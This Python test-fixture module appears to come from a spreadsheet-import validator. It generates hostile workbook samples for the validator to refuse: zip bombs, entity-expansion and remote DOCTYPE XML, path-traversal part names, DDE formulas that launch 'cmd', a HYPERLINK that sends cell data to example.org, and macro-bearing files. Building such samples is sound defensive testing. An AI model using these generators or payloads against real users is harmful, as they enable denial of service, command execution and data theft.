"""Files that would harm whoever reads them trustingly, each with the code of its finding."""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from danvan_xl.addin.compound import compound_file
from tests.ooxml.handmade import (
    HEAD,
    MAIN,
    MOMENT,
    OFFICE,
    REL,
    prefixed,
    rels,
    rich,
    sheet,
    small,
    types,
    unzipped,
    with_parts,
    zipped,
)

Maker = Callable[[], bytes]

SHEET = "xl/worksheets/sheet1.xml"
SHEET_LINKS = "xl/worksheets/_rels/sheet1.xml.rels"
BOOK = "xl/workbook.xml"
BOOK_LINKS = "xl/_rels/workbook.xml.rels"
MEGABYTE = 2**20


def cell(address: str, value: str = "1", more: str = "") -> str:
    """A row with one number."""
    row = re.sub("[A-Z]", "", address)
    return f'<row r="{row}"><c r="{address}"{more}><v>{value}</v></c></row>'


@functools.cache
def plain() -> bytes:
    """A workbook with one number and nothing wrong."""
    return small(cell("A1"))


def with_formula(formula: str) -> bytes:
    """The same with a formula, which is written as XML."""
    return small(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>')


def with_links(place: str, *links: tuple[str, str, bool]) -> bytes:
    """The plain workbook with links (kind or type, target, external) added to a part's list."""
    items = "".join(
        f'<Relationship Id="x{number}" Type="{kind if "/" in kind else f"{REL}/{kind}"}" '
        f'Target="{target}" TargetMode="{"External" if external else "Internal"}"/>'
        for number, (kind, target, external) in enumerate(links)
    )
    parts = unzipped(plain())
    listed = parts.get(place, rels({}).encode()).decode()
    return with_parts(
        plain(), {place: listed.replace("</Relationships>", f"{items}</Relationships>")}
    )


def with_external_link(content: str, target: str | None = None) -> bytes:
    """The plain workbook with a part that stands for another file, and where that is."""
    part = f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{REL}">{content}</externalLink>'
    added: dict[str, str | bytes | None] = {"xl/externalLinks/externalLink1.xml": part}
    if target is not None:
        added["xl/externalLinks/_rels/externalLink1.xml.rels"] = rels(
            {"rId1": ("externalLinkPath", target)}
        ).replace("/></Rel", ' TargetMode="External"/></Rel')
    links = with_links(BOOK_LINKS, ("externalLink", "externalLinks/externalLink1.xml", False))
    return with_parts(links, added)


def bomb(megabytes: int = 300) -> bytes:
    """A sheet that unpacks to so much; the file has a few hundred KB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    row = (b"<row><c><v>1</v></c></row>" * 50_000)[:MEGABYTE]
    head = sheet("").encode().replace(b"<sheetData></sheetData></worksheet>", b"<sheetData>")
    size, crc, packed = len(head), zlib.crc32(head), [packer.compress(head)]
    for _ in range(megabytes):
        packed.append(packer.compress(row))
        crc, size = zlib.crc32(row, crc), size + len(row)
    packed.append(packer.flush())
    return _with_raw_part(SHEET, b"".join(packed), size, crc)


def lying_bomb(megabytes: int = 300) -> bytes:
    """The same, but the directory claims one kilobyte."""
    return _with_claimed_size(bomb(megabytes), SHEET, 1024)


def _with_raw_part(name: str, packed: bytes, size: int, crc: int) -> bytes:
    """The plain workbook with a part whose packed bytes and sizes are given."""
    data = with_parts(plain(), {name: None})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start = archive.start_dir
        count = len(archive.infolist())
    directory, end = data[start:-22], data[-22:]
    shared = (0, 8, 0, 0x21, crc, len(packed), size & 0xFFFFFFFF, len(name), 0)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *shared) + name.encode()
    entry = (
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *shared, 0, 0, 0, 0, start)
        + name.encode()
    )
    body = data[:start] + local + packed
    totals = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        count + 1,
        count + 1,
        len(directory) + len(entry),
        len(body),
        0,
    )
    assert len(end) == len(totals)
    return body + directory + entry + totals


def _with_claimed_size(data: bytes, name: str, size: int) -> bytes:
    """The file with another unpacked size of a part in its directory and its local header."""
    changed = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
        at = archive.start_dir
    struct.pack_into("<L", changed, info.header_offset + 22, size)
    at = data.index(name.encode(), at) - 46
    struct.pack_into("<L", changed, at + 24, size)
    return bytes(changed)


def with_directory_name(old: str, new: str) -> bytes:
    """The plain workbook and a spare part called ``new``, which is as long as ``old``."""
    assert len(old.encode()) == len(new.encode())
    data = with_parts(plain(), {old: "x"})
    return data.replace(old.encode(), new.encode())


def with_flag(flag: int) -> bytes:
    """The plain workbook with a flag set in its first entry."""
    data = bytearray(plain())
    with zipfile.ZipFile(io.BytesIO(plain())) as archive:
        start = archive.start_dir
    for at in (6, start + 8):
        struct.pack_into("<H", data, at, struct.unpack_from("<H", data, at)[0] | flag)
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of the directory that share their packed bytes."""
    data = with_parts(plain(), {"a.xml": "<a/>", "b.xml": "<a/>"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start, first = archive.start_dir, archive.getinfo("a.xml").header_offset
    changed = bytearray(data)
    entry = data.index(b"b.xml", start) - 46
    struct.pack_into("<L", changed, entry + 42, first)
    changed[entry + 46 : entry + 51] = b"a.xml"
    return bytes(changed)


def with_entry_twice(second: str) -> bytes:
    """The plain workbook with one entry more, whose name is already there or nearly so."""
    out = io.BytesIO(plain())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo(second, MOMENT), sheet(cell("A1", "2")))
    return out.getvalue()


def many_parts(count: int = 2_500) -> bytes:
    return with_parts(plain(), {f"xl/media/a{number}.xml": "" for number in range(count)})


def two_files_in_one() -> bytes:
    """A workbook behind another: which of them it is depends on who looks."""
    return plain() + plain()


def damaged_part() -> bytes:
    """A byte of a part's packed bytes is another one."""
    data = bytearray(plain())
    with zipfile.ZipFile(io.BytesIO(plain())) as archive:
        info = archive.getinfo(SHEET)
    data[info.header_offset + 30 + len(SHEET) + info.compress_size // 2] ^= 0xFF
    return bytes(data)


def in_utf16(text: str) -> bytes:
    return text.replace("UTF-8", "UTF-16").encode("utf-16")


XML_2003 = "urn:schemas-microsoft-com:office:spreadsheet"
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE a SYSTEM "http://example.org/a.dtd">'


def declared(doctype: str, part: str = SHEET, utf16: bool = False) -> bytes:
    """The plain workbook with a declaration in one of its parts."""
    text = unzipped(plain())[part].decode().replace(HEAD, HEAD + doctype)
    return with_parts(plain(), {part: in_utf16(text) if utf16 else text})


def repeated_text(cells: int = 30_000, characters: int = 30_000) -> bytes:
    """One long shared text that stands in very many cells: small file, much memory."""
    row = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, cells + 1))
    parts = unzipped(small(row))
    links = (
        parts[BOOK_LINKS]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="s" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>",
        )
    )
    kinds = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{OFFICE}.sharedStrings+xml"/>'
            "</Types>",
        )
    )
    texts = f'{HEAD}<sst xmlns="{MAIN}"><si><t>{"x" * characters}</t></si></sst>'
    return with_parts(
        small(row),
        {BOOK_LINKS: links, "[Content_Types].xml": kinds, "xl/sharedStrings.xml": texts},
    )


def macro_sheet() -> bytes:
    """A workbook with a sheet of Excel 4 macros, which need no VBA."""
    kinds = types(
        {
            BOOK: "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            SHEET: f"{OFFICE}.worksheet+xml",
            "xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
        }
    )
    names = f'<sheet name="M" sheetId="2" state="veryHidden" xmlns:r="{REL}" r:id="m"/></sheets>'
    book = unzipped(plain())[BOOK].decode().replace("</sheets>", names)
    links = (
        unzipped(plain())[BOOK_LINKS]
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Id="m" Target="macrosheets/sheet1.xml" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"/>'
            "</Relationships>",
        )
    )
    return with_parts(
        plain(),
        {
            "[Content_Types].xml": kinds,
            BOOK: book,
            BOOK_LINKS: links,
            "xl/macrosheets/sheet1.xml": f'{HEAD}<xm:macrosheet xmlns="{MAIN}" '
            'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/>'
            "</xm:macrosheet>",
        },
    )


def open_document(content: str, more: Mapping[str, str | bytes] | None = None) -> bytes:
    """An .ods package around the content of ``office:spreadsheet``."""
    space = "urn:oasis:names:tc:opendocument:xmlns"
    body = (
        f'{HEAD}<office:document-content xmlns:office="{space}:office:1.0" '
        f'xmlns:table="{space}:table:1.0" xmlns:text="{space}:text:1.0" '
        f'xmlns:draw="{space}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:script="{space}:script:1.0">'
        f"<office:body><office:spreadsheet>{content}</office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        f'{HEAD}<manifest:manifest xmlns:manifest="{space}:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
        "</manifest:manifest>"
    )
    return zipped(
        {"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": body, **(more or {})}
    )


def ods_table(cell_attributes: str = "", before: str = "") -> str:
    return (
        f'<table:table table:name="S">{before}<table:table-row><table:table-cell '
        f'office:value-type="float" office:value="1" {cell_attributes}><text:p>1</text:p>'
        "</table:table-cell></table:table-row></table:table>"
    )


def manifest_entry(path: str, kind: str, inside: str = "") -> dict[str, str | bytes]:
    """The manifest of an .ods package with one entry more."""
    manifest = unzipped(open_document(""))["META-INF/manifest.xml"].decode()
    entry = (
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}">'
        f"{inside}</manifest:file-entry>"
    )
    return {"META-INF/manifest.xml": manifest.replace("</manifest:m", f"{entry}</manifest:m")}


BASIC_LIBRARY = (
    f'{HEAD}<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" '
    '"module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" '
    'script:name="M">Sub Main</script:module>'
)


def record(kind: int, body: bytes = b"") -> bytes:
    """A record of an .xls stream."""
    return struct.pack("<HH", kind, len(body)) + body


def bare_xls(*records: bytes) -> bytes:
    """The stream of an .xls workbook without its compound file."""
    start = record(0x809, struct.pack("<HHHHLL", 0x600, 5, 0, 0, 0, 0))
    return start + b"".join(records) + record(0x0A)


def supbook(path: str, sheets: int) -> bytes:
    """The record by which an .xls workbook links to another file or program."""
    text = path.encode("utf-16-le")
    return record(0x1AE, struct.pack("<HHB", sheets, len(path), 1) + text)


def nested(levels: int = 100_000) -> bytes:
    """XML that is so many elements deep."""
    return small(cell("A1"), after="<a>" * levels + "</a>" * levels)


def with_part(name: str, content: str | bytes = "x") -> bytes:
    """The plain workbook with a part that nothing links to."""
    return with_parts(plain(), {name: content})


_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_VBA = f"{_MICROSOFT}/vbaProject"
_DDE = (
    '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems>'
    "</ddeLink>"
)
_OTHER_BOOK = (
    '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook>'
)

REFUSED: dict[str, tuple[Maker, str]] = {
    "a sheet that unpacks to 300 MB": (bomb, "T07"),
    "the same with a small size claimed": (lying_bomb, "T07"),
    "too many parts": (many_parts, "T07"),
    "an attribute of 50 MB": (lambda: small("", after=f'<a b="{"x" * 50_000_000}"/>'), "T07"),
    "millions of shared texts": (
        lambda: with_part("xl/sharedStrings.xml", "<sst>" + "<si/>" * 3_500_000 + "</sst>"),
        "T07",
    ),
    "one long text in many cells": (repeated_text, "T07"),
    "a cell at the end of the sheet": (lambda: small(cell("XFD1048576")), "T07"),
    "two cells far apart": (lambda: small(cell("A1") + cell("XFD1048576")), "T07"),
    "a cell far to the right in each of many rows": (
        lambda: small(cell("A1") + cell("XFD2000")),
        "T07",
    ),
    "a cell that claims another row": (
        lambda: small('<row r="1"><c r="A1048576"><v>1</v></c></row>'),
        "T05",
    ),
    "an entity that grows": (lambda: declared(LAUGHS), "T10"),
    "a DOCTYPE from the web": (lambda: declared(OUTSIDE), "T10"),
    "a DOCTYPE in UTF-16": (lambda: declared(LAUGHS, utf16=True), "T10"),
    "a DOCTYPE in the workbook part": (lambda: declared(OUTSIDE, BOOK), "T10"),
    "a DOCTYPE in a list of links": (lambda: declared(OUTSIDE, BOOK_LINKS), "T10"),
    "a DOCTYPE in the content types": (lambda: declared(OUTSIDE, "[Content_Types].xml"), "T10"),
    "a DOCTYPE in a part that is no XML by name": (
        lambda: with_part("xl/media/a.png", f"<?xml version='1.0'?>{LAUGHS}<a/>"),
        "T10",
    ),
    "a part in UTF-16": (
        lambda: with_part(SHEET, in_utf16(unzipped(plain())[SHEET].decode())),
        "T05",
    ),
    "a part in an encoding that hides tags": (
        lambda: with_part("a.xml", b"<?xml version='1.0' encoding='utf-7'?>+ADw-a/+AD4-"),
        "T05",
    ),
    "a part in Latin-1": (
        lambda: with_part("a.xml", b"<?xml version='1.0' encoding='iso-8859-1'?><a>\xe9</a>"),
        "T05",
    ),
    "XML cut in the middle": (lambda: with_part(SHEET, unzipped(plain())[SHEET][:-40]), "T05"),
    "XML 100,000 elements deep": (nested, "T05"),
    "a file cut in the middle": (lambda: plain()[: len(plain()) // 2], "T05"),
    "a file without its end": (lambda: plain()[:-10], "T05"),
    "a file with something before it": (two_files_in_one, "T05"),
    "a damaged part": (damaged_part, "T05"),
    "a part above the folder": (lambda: with_directory_name("aaaa.xml", "../a.xml"), "T10"),
    "a part at the root": (lambda: with_directory_name("aa.xml", "/a.xml"), "T10"),
    "a part on a drive": (lambda: with_directory_name("aaa.xml", "C:a.xml"), "T10"),
    "a part with backslashes": (lambda: with_directory_name("xl/a.xml", "xl\\a.xml"), "T10"),
    "a part with a NUL in its name": (lambda: with_directory_name("aa.xml", "a\0.xml"), "T10"),
    "a part that is there twice": (lambda: with_entry_twice("xl/worksheets/sheet1.xml"), "T10"),
    "the same in capitals": (lambda: with_entry_twice("XL/worksheets/sheet1.xml"), "T10"),
    "parts that overlap": (overlapping, "T10"),
    "an encrypted part": (lambda: with_flag(0x1), "T04"),
    "a link to another workbook": (
        lambda: with_external_link(_OTHER_BOOK, "file:///C:/so-lieu.xlsx"),
        "T11",
    ),
    "a link to another workbook, nowhere": (lambda: with_external_link(_OTHER_BOOK), "T11"),
    "a link by DDE": (lambda: with_external_link(_DDE), "T12"),
    "a link to an OLE object": (
        lambda: with_external_link('<oleLink r:id="rId1" progId="Word.Document"/>', "file:///a"),
        "T13",
    ),
    "a link that no hyperlink makes": (
        lambda: with_links(SHEET_LINKS, ("attachedTemplate", "http://example.org/a", True)),
        "T11",
    ),
    "a picture from a share": (
        lambda: with_links(SHEET_LINKS, ("image", "file://pc/share/a.png", True)),
        "T11",
    ),
    "a connection": (
        lambda: with_links(BOOK_LINKS, ("connections", "connections.xml", False)),
        "T11",
    ),
    "a query table": (lambda: with_links(SHEET_LINKS, ("queryTable", "../q.xml", False)), "T11"),
    "an embedded object": (
        lambda: with_links(SHEET_LINKS, ("oleObject", "../embeddings/oleObject1.bin", False)),
        "T13",
    ),
    "an embedded file": (
        lambda: with_links(SHEET_LINKS, ("package", "../embeddings/a.docx", False)),
        "T13",
    ),
    "an embedded object that nothing links to": (lambda: with_part("xl/embeddings/a.bin"), "T13"),
    "an ActiveX control": (
        lambda: with_links(SHEET_LINKS, ("control", "../activeX/activeX1.xml", False)),
        "T14",
    ),
    "a command typed as a formula": (lambda: with_formula("cmd|'/C calc'!A0"), "T12"),
    "a command behind a sum": (lambda: with_formula("1+cmd|'/C calc'!A0"), "T12"),
    "a command spelt in references": (lambda: with_formula("cmd&#124;'/C calc'!A0"), "T12"),
    "a command behind an odd column": (
        lambda: with_formula("t[a'#]+cmd|'/C calc'!A0&amp;\"'\""),
        "T12",
    ),
    "a question to the web": (
        lambda: with_formula('_xlfn.WEBSERVICE("http://example.org")'),
        "T12",
    ),
    "the same in small letters": (lambda: with_formula('webservice ("http://example.org")'), "T12"),
    "a link that carries a cell away": (
        lambda: with_formula('HYPERLINK("http://example.org/?"&amp;B1,"xem")'),
        "T12",
    ),
    "a link to a program": (lambda: with_formula('HYPERLINK("file:///C:/a.exe")'), "T12"),
    "real-time data": (lambda: with_formula('RTD("a.b",,"c")'), "T12"),
    "a command in a defined name": (
        lambda: small(
            cell("A1"),
            names="<definedNames><definedName name='a'>cmd|'/C calc'!A0</definedName>"
            "</definedNames>",
        ),
        "T12",
    ),
    "a command in prefixed XML": (lambda: prefixed(with_formula("cmd|'/C calc'!A0")), "T12"),
    "a formula with a path": (lambda: with_formula("'C:\\a\\[b.xlsx]S'!A1"), "T11"),
    "an .ods with a linked sheet": (
        lambda: open_document(
            ods_table(before='<table:table-source xlink:href="file:///C:/a.ods"/>')
        ),
        "T11",
    ),
    "an .ods with DDE": (
        lambda: open_document(
            ods_table() + "<table:dde-links><table:dde-link><office:dde-source "
            'office:dde-application="cmd" office:dde-topic="/C calc"/></table:dde-link>'
            "</table:dde-links>"
        ),
        "T12",
    ),
    "an .ods that asks the web": (
        lambda: open_document(ods_table("table:formula='of:=WEBSERVICE(&quot;http://a&quot;)'")),
        "T12",
    ),
    "an .ods with a formula on another file": (
        lambda: open_document(ods_table("""table:formula="of:=['file:///C:/a.ods'#$S.A1]\"""")),
        "T11",
    ),
    "an .ods with an embedded document": (
        lambda: open_document(
            ods_table(),
            manifest_entry("Object 1/", "application/vnd.oasis.opendocument.text"),
        ),
        "T13",
    ),
    "an .ods with a linked document": (
        lambda: open_document(f'<draw:object xlink:href="file:///C:/a.odt"/>{ods_table()}'),
        "T13",
    ),
    "an .ods with a password": (
        lambda: open_document(
            ods_table(),
            manifest_entry("content.xml", "text/xml", "<manifest:encryption-data/>"),
        ),
        "T04",
    ),
    "an .ods with a DOCTYPE": (
        lambda: with_parts(
            open_document(ods_table()), {"content.xml": f"<?xml version='1.0'?>{LAUGHS}<a/>"}
        ),
        "T10",
    ),
    "an .xls with a password": (lambda: bare_xls(record(0x2F, bytes(6))), "T04"),
    "an .xls with a link": (lambda: bare_xls(supbook("\x01C\x03so-lieu.xls", 1)), "T11"),
    "an .xls with a query": (lambda: bare_xls(record(0xDC, bytes(12))), "T11"),
    "an .xls with DDE": (lambda: bare_xls(supbook("cmd\x03/C calc", 0)), "T12"),
    "an .xls with an embedded object": (
        lambda: compound_file({"Workbook": bare_xls(), "MBD0001": {"\x01Ole": bytes(20)}}),
        "T13",
    ),
    "an .xls with ActiveX": (
        lambda: compound_file({"Workbook": bare_xls(), "Ctls": bytes(20)}),
        "T14",
    ),
    "an .xlsx with a password": (
        lambda: compound_file({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(100)}),
        "T04",
    ),
    "a compound file cut in the middle": (
        lambda: compound_file({"Workbook": bare_xls() + bytes(9000)})[:1500],
        "T05",
    ),
    "an HTML page with an entity": (
        lambda: b"<!DOCTYPE html [<!ENTITY a 'b'>]><html><table><tr><td>1</table>",
        "T10",
    ),
    "a page that starts a program": (
        lambda: b"<html><table><tr><td>=cmd|'/C calc'!A0</td></tr></table>",
        "T12",
    ),
    "an XML workbook with an entity": (
        lambda: f"<?xml version='1.0'?>{LAUGHS}<Workbook xmlns='{XML_2003}'/>".encode(),
        "T10",
    ),
    "an XML workbook in UTF-16 with an entity": (
        lambda: in_utf16(f"<?xml version='1.0'?>{LAUGHS}<Workbook xmlns='{XML_2003}'/>"),
        "T10",
    ),
    "an XML workbook that starts a program": (
        lambda: (
            f'<Workbook xmlns="{XML_2003}"><Cell ss:Formula="=cmd|\'/C calc\'!A0"/></Workbook>'
            "".encode()
        ),
        "T12",
    ),
    "text that starts a program": (lambda: b"a;b\n1;=cmd|'/C calc'!A0\n", "T12"),
    "text that starts a program behind a sum": (
        lambda: b"a,b\n@SUM(1+1)*cmd|'/C calc'!A0,2\n",
        "T12",
    ),
}
"""What it is → its maker and the code that import must give; all of them are small files."""

MACROS: dict[str, Maker] = {
    "VBA in a workbook": lambda: with_parts(
        with_links(BOOK_LINKS, (_VBA, "vbaProject.bin", False)), {"xl/vbaProject.bin": "x"}
    ),
    "a workbook that Excel saved": rich,
    "a sheet of Excel 4 macros": macro_sheet,
    "Basic in an .ods": lambda: open_document(ods_table(), {"Basic/Standard/M.xml": BASIC_LIBRARY}),
    "VBA in an .xls": lambda: compound_file(
        {"Workbook": bare_xls(), "_VBA_PROJECT_CUR": {"PROJECT": bytes(20)}}
    ),
    "a sheet of Excel 4 macros in an .xls": lambda: bare_xls(record(0x85, bytes(5) + b"\1\1M")),
}
"""What is taken, with a word about its macros."""

HARMLESS: dict[str, Maker] = {
    "a number": plain,
    "the same, prefixed": lambda: prefixed(plain()),
    "a hyperlink to the web": lambda: with_links(
        SHEET_LINKS, ("hyperlink", "https://example.org/a?b=1", True)
    ),
    "a hyperlink to a file": lambda: with_links(
        SHEET_LINKS, ("hyperlink", "file:///C:/a.docx", True)
    ),
    "a picture from the web": lambda: with_links(
        SHEET_LINKS, ("image", "https://example.org/a.png", True)
    ),
    "a link within the file": lambda: with_formula('HYPERLINK("#\'Kết quả\'!B4","xem")'),
    "a written out web page": lambda: with_formula('HYPERLINK("https://example.org/a","xem")'),
    "a bar in a text": lambda: with_formula('IF(A1=1,"Sai | Lỗi!","cmd|x")'),
    "a bar in the name of a sheet": lambda: with_formula("'A|B'!A1+1"),
    "a bar in the name of a column": lambda: with_formula("SUM(tblA[Đạt|Không])"),
    "a declared type of objects": lambda: with_parts(
        plain(),
        {
            "[Content_Types].xml": types(
                {BOOK: f"{OFFICE}.sheet.main+xml", SHEET: f"{OFFICE}.worksheet+xml"}
            ).replace("vbaProject", "oleObject")
        },
    ),
    "form controls": lambda: with_links(SHEET_LINKS, ("ctrlProp", "../ctrlProps/a.xml", False)),
    "sloppy drawings": lambda: with_part("xl/drawings/a.vml", "<xml><br></xml>"),
    "rows formatted to the end of the sheet": lambda: small(
        cell("A1") + '<row r="1048576"><c r="XFD1048576" s="2"/></row>'
    ),
    "an .ods": lambda: open_document(ods_table(), {"Configurations2/a.xml": ""}),
    "an .ods with a chart": lambda: open_document(
        '<draw:object xlink:href="./Object 1"/>' + ods_table(),
        manifest_entry("Object 1/", "application/vnd.oasis.opendocument.chart"),
    ),
    "an .xls that names its own sheets": lambda: bare_xls(
        record(0x1AE, struct.pack("<HH", 1, 0x0401)), record(0x1AE, struct.pack("<HH", 1, 0x3A01))
    ),
    "an HTML page": lambda: b"<!DOCTYPE html><html><table><tr><td>1</td></tr></table></html>",
    "text with bars": lambda: "Mã|Số\n- Tốt | đạt!|2\n".encode(),
}
"""What is taken without a word."""
